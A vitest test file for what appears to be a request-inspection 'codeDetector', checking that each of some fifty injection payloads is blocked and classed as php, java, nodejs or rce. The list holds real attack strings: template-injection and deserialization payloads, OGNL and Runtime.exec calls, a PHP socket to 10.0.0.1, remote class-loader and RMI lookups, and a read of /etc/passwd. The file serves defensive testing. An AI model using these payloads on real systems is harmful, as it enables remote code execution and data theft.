import { describe, expect, test } from 'vitest';
import { createValueInspector, type ValueAt } from '../testing/value.ts';
import { codeDetector } from './detector.ts';

const inspect = createValueInspector([codeDetector]);

describe('codeDetector', () => {
  const attacks: readonly (readonly [string, string, ValueAt?])[] = [
    ['php', ';php -r \'$s=fsockopen("10.0.0.1",1);\''],
    ['php', 'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+'],
    ['php', "data:text/plain,<?php system('id');?>"],
    ['nodejs', "'; while(true){}; var x='"],
    ['rce', "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"],
    ['java', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
    ['java', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'],
    ['java', "#set($x='')##$x.class.forName('java.lang.Runtime')"],
    ['php', '{php}phpinfo();{/php}'],
    ['php', "{system('id')}"],
    ['nodejs', "{{constructor.constructor('alert(1)')()}}"],
    ['java', '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x'],
    ['php', '<%= system("id") %>'],
    ['rce', "{{ cycler.__init__.__globals__.os.popen('id').read() }}"],
    ['nodejs', "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"],
    ['rce', '{% import os %}{{ os.popen("id").read() }}'],
    ['rce', '${self.module.cache.util.os.system("id")}'],
    ['java', "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"],
    ['java', "{{ ''.class.forName('java.lang.Runtime') }}"],
    ['php', '{{phpinfo()}}'],
    ['java', '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://e/"]]]]'],
    ['java', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://e/x","autoCommit":true}'],
    ['nodejs', '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'],
    ['java', '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>'],
    ['php', "<?php system($_GET['c']); ?>"],
    ['php', '<?=`id`?>'],
    ['php', "system('ls');"],
    ['php', 'exec("id")'],
    ['php', 'eval($_POST[1])'],
    ['php', 'phpinfo()'],
    ['php', "assert($_POST['x'])"],
    ['php', "preg_replace('/x/e','phpinfo()','x')"],
    ['php', "base64_decode('aWQ=')"],
    ['php', "file_get_contents('/etc/passwd')"],
    ['php', "call_user_func('system','id')"],
    ['php', '${@phpinfo()}'],
    ['php', '{${phpinfo()}}'],
    ['php', '$_GET[0]($_GET[1])'],
    ['php', "(sys.tem)('id')"],
    ['java', 'java.lang.Runtime.getRuntime().exec("id")'],
    ['java', 'new ProcessBuilder("id").start()'],
    ['java', 'Class.forName("java.lang.Runtime")'],
    ['java', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
    ['java', "(#_memberAccess['allowStaticMethodAccess']=true)"],
    ['nodejs', "require('child_process').execSync('id')"],
    ['nodejs', "process.mainModule.require('fs')"],
    ['nodejs', 'global.process.exit()'],
    ['nodejs', "this.constructor.constructor('return process')()"],
    ['rce', "__import__('os').system('id')"],
    ['rce', "@{[system 'id']}"],
    ['rce', "Kernel.exec('id')"],
    ['java', "redirect:${%23a%3d(new java.lang.ProcessBuilder('id')).start()}"],
    ['java', 'javax.naming.InitialContext'],
    ['rce', "import os;os.system('id')"],
  ];

  test.each(attacks)('%s is blocked: %j', (attackClass, text, at) => {
    const { action, findings } = inspect(text, at);
    expect({ action, classes: [...new Set(findings.map((finding) => finding.class))] }).toMatchObject({
      action: 'block',
      classes: expect.arrayContaining([attackClass]),
    });
  });
});
